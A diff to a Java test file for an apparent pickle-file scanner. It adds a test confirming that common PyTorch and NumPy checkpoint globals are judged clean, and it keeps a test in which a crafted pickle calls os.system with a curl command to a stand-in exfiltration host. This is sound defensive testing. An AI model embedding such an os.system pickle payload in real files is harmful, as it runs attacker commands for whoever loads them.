@@ -324,6 +324,24 @@ class BuiltFilesTest {
     }
 
     @Test
+    void allowsTheCallablesOfPytorchAndNumpyCheckpoints() {
+        for (String[] g : new String[][] {
+            {"torch._utils", "_rebuild_tensor_v2"},
+            {"torch", "FloatStorage"},
+            {"collections", "OrderedDict"},
+            {"numpy.core.multiarray", "_reconstruct"},
+            {"numpy", "dtype"},
+            {"numpy.random._pickle", "__randomstate_ctor"},
+            {"_codecs", "encode"},
+            {"torch", "bfloat16"}
+        }) {
+            assertThat(scan("ok.pkl", Build.globalCall(g[0], g[1], "x")))
+                    .as(g[0] + "." + g[1])
+                    .isInstanceOf(FileVerdict.Clean.class);
+        }
+    }
+
+    @Test
     void describesFindingsWithoutCopyingFileContent() {
         FileVerdict v = scan("x.pkl", Build.globalCall("os", "system", "curl secret-exfil-host"));
         assertThat(v.findings()).allSatisfy(f -> assertThat(f.reason()).doesNotContain("secret-exfil-host"));
